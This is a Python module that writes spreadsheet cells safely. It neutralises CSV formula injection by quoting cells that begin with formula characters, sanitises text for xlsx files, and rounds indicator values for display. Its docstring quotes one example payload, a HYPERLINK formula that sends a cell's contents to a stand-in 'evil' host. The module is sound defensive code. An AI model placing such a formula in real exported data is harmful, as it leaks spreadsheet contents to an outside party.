"""Cells for spreadsheets: text is never a live formula, numbers are rounded for display.

A site named ``=HYPERLINK("http://evil/?"&A1)`` must reach the city's reviewers as
text. CSV has no cell types, so a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or CR gets a leading ``'`` (OWASP, "CSV Injection"); numbers are written as
numbers and never escaped. The workbook types such cells as strings instead
(:func:`excel_text`), so names keep their exact text there.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from farm_contract.indicators import IndicatorValue

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would take it for a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: object) -> str:
    """One CSV cell: empty for None, ``true``/``false``, numbers as is, text defused;
    a mapping or list (an indicator's ``parameters``, ``flags``) as compact JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"), sort_keys=True)
    if isinstance(value, str):
        return defuse(value)
    return str(value)


def csv_text(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """CSV with a header row and CRLF line ends, every cell through :func:`csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def excel_text(text: str) -> str:
    """``text`` without the control characters an xlsx file cannot hold (they become U+FFFD)."""
    cleaned: str = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    return cleaned


# --- numbers for display -------------------------------------------------------------
# Sums of float masses carry noise (24.831999999999997); a reader wants 24.832. Rates
# are rounded too, but never so far that the shown number contradicts ``met``, which
# the engine decides on the exact value (farm_contract.indicators): 0.89996 against a
# 0.9 target keeps its fifth decimal, since 0.9000 would look met.

BOM = "\ufeff"
"""Starts every CSV meant for Excel: without it Excel on Windows reads UTF-8 as ANSI."""
MASS_DECIMALS = 3
RATE_DECIMALS = 4
MOST_DECIMALS = 15


def round_mass(value: float) -> float:
    """Tonnes (or farms, or a ratio) to :data:`MASS_DECIMALS` decimals; never ``-0.0``."""
    return round(value, MASS_DECIMALS) + 0.0


def rate_decimals(value: float, target: float, met: bool | None,
                  least: int = RATE_DECIMALS) -> int:
    """Fewest decimals, at least ``least``, at which ``value`` rounded agrees with ``met``."""
    for decimals in range(least, MOST_DECIMALS + 1):
        if (round(value, decimals) >= target) == bool(met):
            return decimals
    return MOST_DECIMALS


def round_rate(value: float | None, target: float, met: bool | None) -> float | None:
    """A rate to :data:`RATE_DECIMALS` decimals, or more where fewer would misstate ``met``."""
    if value is None:
        return None
    return round(value, rate_decimals(value, target, met)) + 0.0


def percent_format(value: float | None, target: float, met: bool | None) -> str:
    """An Excel percent format with one decimal, or more where one would misstate ``met``."""
    if value is None:
        return "0.0%"
    decimals = rate_decimals(value, target, met, least=3) - 2
    return "0." + "0" * decimals + "%"


def rounded_indicator(item: IndicatorValue) -> dict[str, object]:
    """An indicator as JSON-ready cells, its numbers rounded for display; ``met`` as computed."""
    data: dict[str, object] = item.model_dump(mode="json")
    data["value"] = round_rate(item.value, item.target, item.met)
    data["numerator"] = round_mass(item.numerator)
    data["denominator"] = round_mass(item.denominator)
    data["target"] = round(item.target, RATE_DECIMALS)
    if item.coverage is not None:
        data["coverage"] = round(item.coverage, RATE_DECIMALS) + 0.0
    if item.value is None:
        data["met"] = None  # n/a: neither met nor not met (issue 13)
    return data
